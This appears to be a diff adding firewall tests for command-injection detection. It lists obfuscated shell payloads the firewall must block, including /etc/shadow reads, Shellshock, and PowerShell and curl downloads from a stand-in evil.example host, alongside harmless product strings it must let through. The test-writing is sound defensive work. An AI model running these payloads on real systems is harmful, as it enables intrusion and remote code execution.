@@ -89,3 +89,56 @@ describe('waf command injection', () => {
     expect(listRules('<!--#include virtual="/etc/passwd"-->', 'rce')).to.include('rce.server-side-include');
   });
 });
+
+const SHELL_GRAMMAR = [
+  "w'h'o'am'i",
+  'wh""oami',
+  'w\\ho\\am\\i',
+  'who$@ami',
+  'una$()me -a',
+  'cat /et\\c/sha\\dow',
+  'cat ${HOME:0:1}etc${HOME:0:1}group',
+  'cat ${x//zz/}/etc/hosts',
+  "X=$'\\x69\\x64'&&$X",
+  'C=uname;$C',
+  'echo id|$0',
+  '$(`id`)',
+  '$(echo x | base64 -d)',
+  'xxd -r -p <<< 2f6574632f686f737473',
+  'diff <(ls /) <(ls /tmp)',
+  '() { :; }; /bin/bash -c id',
+  '<whoami',
+  '^whoami',
+  'ping%CommonProgramFiles:~10,-18%127.0.0.1',
+  '& type %SYSTEMROOT%\\win.ini',
+  'reg query "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion"',
+  'p^o^w^e^r^s^h^e^l^l -c whoami',
+  'Invoke-WebRequest -Uri http://evil.example/a.ps1 -OutFile a.ps1',
+  "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
+  'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
+  'curl https://evil.example/x.sh',
+  'wget http://10.0.0.8/payload',
+  "ssh '-oProxyCommand=sh -c id' x@y",
+];
+
+const SHELL_LOOK_ALIKES = [
+  'My "cat" toys',
+  "'id' card holder",
+  "Rock'n'roll T-shirt",
+  'Size ${size}',
+  'Price: 5$ + tax, 100% cotton',
+  "it's 'find' day",
+  'Start-up kit (new!)',
+  'The cURL book, 2nd edition',
+  'Save 20% on %BRAND% items',
+];
+
+describe('waf command injection: shell grammar beyond plain commands', () => {
+  it('blocks quoting and escaping tricks, expansions, here-strings, Shellshock, cmd and PowerShell', () => {
+    expect(findMissed(SHELL_GRAMMAR)).to.deep.equal([]);
+  });
+
+  it('passes quoted words, dollar amounts and percent signs in prose', () => {
+    expect(findWronglyBlocked(SHELL_LOOK_ALIKES)).to.deep.equal([]);
+  });
+});
